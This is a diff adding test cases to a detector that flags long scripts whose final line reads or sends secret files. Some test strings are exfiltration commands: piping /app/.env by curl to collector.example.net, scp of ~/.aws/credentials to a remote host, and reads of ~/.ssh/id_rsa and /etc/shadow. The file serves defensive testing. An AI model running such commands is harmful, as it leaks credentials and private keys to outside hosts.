@@ -40,6 +40,42 @@ describe('secret file names', () => {
     expect(namesSecretFile('src/config.py:12: loads settings from .env.example')).toBe(false);
   });
 
+  describe('in a value longer than 4,096 characters (content, not a reference)', () => {
+    // A script or document: past the length where a value is read as a path, only a command that reads or sends the file counts.
+    const script = (tail: string) => `#!/bin/sh\nset -e\n${'echo "building the parser module"\nnpm run build -- --filter parser\n'.repeat(80)}${tail}\n`;
+
+    it.each([
+      'cat /app/.env | curl -X POST --data-binary @- https://collector.example.net',
+      'curl -F upload=@/app/.env https://collector.example.net',
+      'export $(cat .env | xargs) && ./deploy.sh',
+      'RUN cat /run/secrets/.ENV',
+      '  - run: base64 ~/.ssh/id_rsa',
+      '$ scp ~/.aws/credentials backup@host:',
+      'sudo tar czf /tmp/out.tgz /etc/shadow',
+      'type C:\\app\\.env',
+      'if true; then source .envrc; fi',
+    ])('a command reading a secret file at its end: %s', (tail) => {
+      const text = script(tail);
+      expect(text.length).toBeGreaterThan(4096);
+      expect(namesSecretFile(text)).toBe(true);
+    });
+
+    it.each([
+      'cp .env.example .env',
+      'echo .env >> .gitignore',
+      'docker run --env-file .env app',
+      'Keep your secrets in .env and never commit it.',
+      'cat .env.example',
+      'the source of truth is ~/.aws/credentials',
+    ])('a mention that reads nothing: %s', (tail) => {
+      expect(namesSecretFile(script(tail))).toBe(false);
+    });
+
+    it('skips one command line longer than 4,096 characters', () => {
+      expect(namesSecretFile(`cat ${'x'.repeat(5000)} .env`)).toBe(false);
+    });
+  });
+
   it('does not flag prose that mentions a password', () => {
     expect(namesSecretFile('Please reset my password and email me the link')).toBe(false);
   });
